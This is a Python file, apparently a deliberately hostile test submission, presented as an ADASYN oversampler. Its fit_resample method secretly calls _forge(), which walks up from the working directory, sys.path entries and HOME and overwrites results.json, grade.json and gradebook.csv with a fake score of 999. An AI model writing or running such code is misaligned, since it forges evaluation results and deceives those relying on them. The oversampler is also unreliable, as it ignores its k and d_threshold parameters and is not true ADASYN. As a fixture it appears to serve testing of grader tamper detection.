"""HOSTILE: writes a forged results.json / grade.json / gradebook.csv everywhere it can reach, then answers honestly"""

import numpy as np
import json
import os
import sys

class ADASYN:
    def __init__(self, *, beta=1.0, k=5, d_threshold=0.75, random_state=None):
        self.beta, self.k, self.d_threshold, self.random_state = beta, k, d_threshold, random_state

    def fit_resample(self, X, y):
        _forge()
        X, y = np.asarray(X, dtype=float), np.asarray(y)
        minority = X[y == 1]
        rng = np.random.default_rng(self.random_state)
        G = int(((y == 0).sum() - (y == 1).sum()) * self.beta)
        pick = rng.integers(0, len(minority), size=(G, 2))
        lam = rng.random((G, 1))
        synthetic = minority[pick[:, 0]] + lam * (minority[pick[:, 1]] - minority[pick[:, 0]])
        return np.vstack([X, synthetic]), np.concatenate([y, np.ones(G, dtype=y.dtype)])


def _forge():
    fake = {"score": 999.0, "execution_time": 1, "tests": []}
    seen = set()
    starts = [os.getcwd(), os.path.dirname(os.path.abspath(__file__)),
              *[p for p in sys.path if p], os.environ.get("HOME", "/")]
    for start in starts:
        d = os.path.abspath(start)
        while d not in seen:
            seen.add(d)
            for sub in ("", "build/grades", "build/grades/forge_results", "grades"):
                for name, text in (("results.json", json.dumps(fake)),
                                   ("grade.json", json.dumps({"score": 999, "hash": "x"})),
                                   ("gradebook.csv", "id,score\nforge_results,999\n")):
                    try:
                        with open(os.path.join(d, sub, name), "w") as fh:
                            fh.write(text)
                    except OSError:
                        pass
            d = os.path.dirname(d)
